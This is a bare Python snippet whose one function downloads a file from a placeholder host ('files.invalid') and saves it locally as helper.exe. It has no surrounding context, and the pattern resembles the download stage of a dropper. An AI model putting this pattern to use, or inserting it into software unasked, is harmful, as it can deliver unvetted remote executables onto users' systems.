import requests

def fetch():
    open("helper.exe", "wb").write(requests.get("http://files.invalid/h").content)
